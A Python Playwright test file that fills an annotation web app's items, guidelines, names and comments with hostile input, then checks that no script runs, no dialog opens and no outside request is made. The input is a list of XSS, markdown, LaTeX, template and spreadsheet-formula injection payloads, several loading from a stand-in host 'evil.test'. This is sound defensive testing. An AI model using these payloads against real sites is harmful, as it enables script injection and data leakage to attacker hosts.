"""What people bring and write is hostile: in no reader's page does any of it run, load, or even try to.

Every page that shows items, answers or guidelines is opened by somebody who is signed in. An attempt is seen as a
call of `pwned`, a dialog, a request to another host, an element that Markdown does not make, or a broken policy.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import cycle
from typing import TYPE_CHECKING, Any

from playwright.sync_api import Page, expect
from tests.browser.kinds import EXAMPLES, example_of, project_of
from tests.browser.settling import Settling

from armslength_client import Armslength
from armslength_client.types import Work
from armslength_client.types_suggestions import JudgeFacts

if TYPE_CHECKING:
    from tests.running import RunningApp

PASSWORD = "a long walk by the sea"
PAYLOADS = [
    "<script>pwned()</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=pwned()>",
    '<img src="https://evil.test/pixel.png">',
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:pwned()"><text x=20 y=20>x</text></a></svg>',
    "<svg><foreignObject><iframe src=javascript:pwned()></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<math href=javascript:pwned()>x</math>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=javascript:parent.pwned()></iframe>",
    "<object data=javascript:pwned()>",
    "<embed src=//evil.test/x.swf>",
    "<body onload=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()>",
    "<textarea autofocus onfocus=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<details open ontoggle=pwned()>",
    "<marquee onstart=pwned()>",
    "<form action=//evil.test><button>x</button></form>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';</style>",
    '<meta http-equiv=refresh content="0;url=//evil.test">',
    "<a href=javascript:pwned()>x</a>",
    "<a href='data:text/html,<script>pwned()</script>'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<template><img src=x onerror=pwned()></template>",
    "<!--><img src=x onerror=pwned()>-->",
    "<![CDATA[><img src=x onerror=pwned()>]]>",
    "<x onclick=pwned() tabindex=0 autofocus>x</x>",
    "[x](javascript:pwned())",
    "[x](JaVaScRiPt:pwned())",
    "[x](java&#115;cript:pwned())",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "[x](vbscript:pwned())",
    '[x](https://a.test "onmouseover=pwned() ")',
    "![x](https://evil.test/pixel.png)",
    "![x](javascript:pwned())",
    '![x"onerror="pwned()](/api/v1/x)',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKCkiIHhtbG5zPSJodHRwOi8vd3d3LnczLm9yZy8yMDAwL3N2ZyIvPg==)",
    "<javascript:pwned()>",
    "```html\n<script>pwned()</script>\n```",
    "```\"><img src=x onerror=pwned()>\nx\n```",
    "$\\href{javascript:pwned()}{x}$ and $\\htmlData{x=pwned()}{y}$",
    "$\\unicode{<img src=x onerror=pwned()>}$",
    "$$\\includegraphics{https://evil.test/pixel.png}$$",
    '[x](https://a.test "$\\text{" onmouseover=pwned() }$")',
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()}",
    "=cmd|'/c calc'!A1",
    "\u202epwned\u2066\u2069\u200b",
    "'\"><img src=x onerror=pwned()>",
    "javascript:pwned()",
]  # fmt: skip
EVERYTHING = "\n\n".join(PAYLOADS)
SPY = "window.wasPwned = false; window.pwned = () => { window.wasPwned = true; };"
FORBIDDEN = (
    "#root :is(script, iframe, object, embed, base, form[action*='evil'], link, meta, animate, foreignObject, marquee)"
)
HANDLERS = """
() => [...document.querySelectorAll("body *")].flatMap((element) => [...element.attributes]
    .filter((each) => each.name.startsWith("on") || ["href", "src"].includes(each.name) && /script:/i.test(each.value))
    .map((each) => `${element.tagName} ${each.name}=${each.value.slice(0, 60)}`))
"""
SCHEMA: dict[str, Any] = {
    "fields": [
        {"name": "talk", "kind": "chat"}, {"name": "plain", "kind": "text"},
        {"name": "marked", "kind": "text", "settings": {"format": "markdown"}},
        {"name": "program", "kind": "code"}, {"name": "grid", "kind": "table"},
        {"name": "responses", "kind": "text", "many": True, "settings": {"format": "markdown"}},
    ],
    "questions": [
        {"name": "why", "kind": "text", "title": PAYLOADS[0], "help": EVERYTHING[:1500]},
        {"name": "names", "kind": "spans", "title": "Names", "required": False,
         "settings": {"field": "plain", "labels": [{"id": "a", "title": PAYLOADS[2]}]}},
    ],
}  # fmt: skip
CONTENT: dict[str, Any] = {
    "talk": [
        {"role": "user", "content": EVERYTHING}, {"role": "assistant", "content": EVERYTHING, "name": PAYLOADS[2]},
    ],
    "plain": EVERYTHING, "marked": EVERYTHING, "program": {"code": EVERYTHING, "language": "html"},
    "grid": {"columns": [PAYLOADS[0], PAYLOADS[2]], "rows": [[one, one] for one in PAYLOADS]},
    "responses": [EVERYTHING, PAYLOADS[2]],
}  # fmt: skip
NAMES = {
    "names": {
        "item": {
            "state": "answered",
            "value": {"spans": [{"start": 0, "end": 8, "quote": EVERYTHING[:8], "field": "plain", "label": "a"}]},
        }
    }
}
WHY = {"why": {"item": {"state": "answered", "value": {"text": EVERYTHING}}}}
WRITTEN = ("comment", "fix", "other")
"""What people write in such answers."""
SHOWN = ("title", "help", "criterion", "low", "high")
"""What a question shows of itself."""
Seat = Callable[..., Any]


def test_nothing_that_people_bring_or_write_runs_in_a_readers_page(app: RunningApp, desk: Seat) -> None:
    with Armslength(app.url) as owner, Armslength(app.url) as ada:
        project_id, item_id, annotation_id = at_work(app, owner, ada)
        base = f"/projects/{project_id}"
        olga, her = (watched(desk().page, app.url) for _ in range(2))
        sign_in(olga, "olga@northwind.test")
        sign_in(her, "ada@northwind.test")
        ours = (
            "", "/items", f"/items/{item_id}", "/guideline", "/schema", "/log", "/flags", "/members", "/settings",
            "/batches", "/answers", f"/answers/{annotation_id}", "/suggestions", "/judges", "/gold", "/reviews",
            "/appeals", "/disagreements", "/adjudicate", "/quality", "/concerns", "/releases", "/renditions",
            "/variants",
        )  # fmt: skip
        for path in ("/notifications", *(f"{base}{each}" for each in ("/work", "/mine", *ours, "/review"))):
            look(olga, path)
        for path in ("/notifications", f"{base}/mine", f"{base}/work"):
            look(her, path)
        expect(her.get_by_text("pwned").first).to_be_visible()
        looked_at(her, "the bench")


def test_nor_does_it_in_any_kind_of_question(app: RunningApp, desk: Seat) -> None:
    with Armslength(app.url) as owner:
        owner.set_up(
            token=app.setup_token, organization="Northwind", name="Olga", email="olga@northwind.test", password=PASSWORD
        )
        page = watched(desk().page, app.url)
        sign_in(page, "olga@northwind.test")
        for example in EXAMPLES:
            base, answer = answered(owner, example)
            for path in (f"{base}/work", f"{base}/answers/{answer}"):
                look(page, path)
                expect(page.get_by_text("pwned").first).to_be_visible()


def answered(owner: Armslength, example: str) -> tuple[str, Any]:
    """A project of one kind of question: one item answered, one to answer, all of it hostile."""
    found = example_of(example)
    payloads = cycle(PAYLOADS)
    written = (*WRITTEN, "criterion") if example.startswith("criteria") else WRITTEN  # a grade names it by its id
    return project_of(owner, example, {
        **found, "content": bristling(found["content"]), "answer": poisoned(found["answer"], written, payloads),
        **{part: poisoned(found[part], SHOWN, payloads) for part in ("fields", "question", "before") if part in found},
    })  # fmt: skip


def poisoned(value: Any, names: tuple[str, ...], payloads: Iterator[str]) -> Any:
    """The same with something hostile wherever one of these names holds words."""
    if isinstance(value, dict):
        return {
            name: f"{one} {next(payloads)}"
            if name in names and isinstance(one, str)
            else poisoned(one, names, payloads)
            for name, one in value.items()
        }
    return [poisoned(one, names, payloads) for one in value] if isinstance(value, list) else value


def bristling(value: Any, name: str = "") -> Any:
    """Content with everything hostile after each of its texts: places in them stay where they are."""
    if isinstance(value, dict):
        return {each: bristling(one, each) for each, one in value.items()}
    if isinstance(value, list):
        return [bristling(one, name) for one in value]
    return f"{value}\n\n{EVERYTHING}" if isinstance(value, str) and name not in ("id", "turn", "role") else value


def at_work(app: RunningApp, owner: Armslength, ada: Armslength) -> tuple[Any, Any, Any]:
    """A project full of it, and somebody who has answered one item and flagged another; the item, her answer."""
    owner.set_up(
        token=app.setup_token, organization=PAYLOADS[2], name="Olga <img src=x onerror=pwned()>",
        email="olga@northwind.test", password=PASSWORD,
    )  # fmt: skip
    project = owner.apply_brief(
        {"slug": "hostile", "name": PAYLOADS[2], "schema": SCHEMA, "guideline": EVERYTHING, "review_share": 1}
    ).project
    assert project is not None
    batch = owner.create_batch(project.id, PAYLOADS[4])
    made = owner.add_items(project.id, batch.id, [CONTENT, CONTENT, CONTENT])
    assert made.created == 3, made
    owner.set_project_state(project.id, "active")
    owner.put_project_member(project.id, owner.get_me().person.id, "manager")
    invitation = owner.create_invitation("ada@northwind.test", "annotator", projects=[(project.id, "annotator")])
    ada.accept_invitation(token=(invitation.url or "").partition("#token=")[2], name=PAYLOADS[4], password=PASSWORD)
    ada.read_guideline(project.id, ada.get_brief(project.id)["guideline"]["version"])
    first = ada.next_assignment(project.id)
    assert isinstance(first, Work)
    said = ada.submit_annotation(project.id, first.assignment.id, WHY, schema_version=first.schema_version)
    second = ada.next_assignment(project.id)
    assert isinstance(second, Work)
    ada.flag_item(project.id, second.assignment.id, "other", EVERYTHING[:1900])
    owner.begin_comment(project.id, first.assignment.id, EVERYTHING[:1900], question="why", target="item")
    gold = next(each for each in owner.list_items(project.id) if each.state == "open" and not each.answers)
    owner.put_gold(project.id, gold.id, "hidden", {**WHY, **NAMES}, explanation=EVERYTHING[:1900])
    owner.add_suggestions(
        project.id,
        [{"item_id": str(second.assignment.item_id), "answers": WHY}],
        source=PAYLOADS[4],
        version=PAYLOADS[0],
    )
    owner.add_suggestions(
        project.id,
        [{"item_id": str(first.assignment.item_id), "answers": WHY}],
        source=PAYLOADS[4],
        version=PAYLOADS[1],
        judge=JudgeFacts(family=PAYLOADS[3], models=[PAYLOADS[4]]),
    )
    owner.wait_for_release(project.id, owner.create_release(project.id, name=PAYLOADS[2], recipe={}).id)
    return project.id, first.assignment.item_id, said.annotation_id


def look(page: Page, path: str) -> None:
    page.goto(path)
    looked_at(page, path)


def watched(page: Page, url: str) -> Page:
    """A page that notices an attempt."""
    page.add_init_script(SPY)
    page.on("request", lambda request: away.append(request.url) if not at_home(request.url, url) else None)
    page.on("dialog", lambda dialog: away.append(dialog.message))
    away: list[str] = []
    page.away = away  # type: ignore[attr-defined]
    page.settling = Settling(page)  # type: ignore[attr-defined]
    return page


def at_home(asked: str, url: str) -> bool:
    return asked.startswith((f"{url}/", "data:image/", "blob:"))


def sign_in(page: Page, email: str) -> None:
    page.goto("/sign-in")
    page.get_by_label("Email").fill(email)
    page.get_by_label("Password", exact=True).fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("heading", name="Hello")).to_be_visible()


def looked_at(page: Page, where: str) -> None:
    """Everything there has been drawn, and nothing came of it."""
    page.settling.settle()  # type: ignore[attr-defined]
    assert page.evaluate("window.wasPwned") is False, where
    assert page.away == [], (where, page.away)  # type: ignore[attr-defined]
    assert page.evaluate(HANDLERS) == [], where
    assert page.locator(FORBIDDEN).count() == 0, where
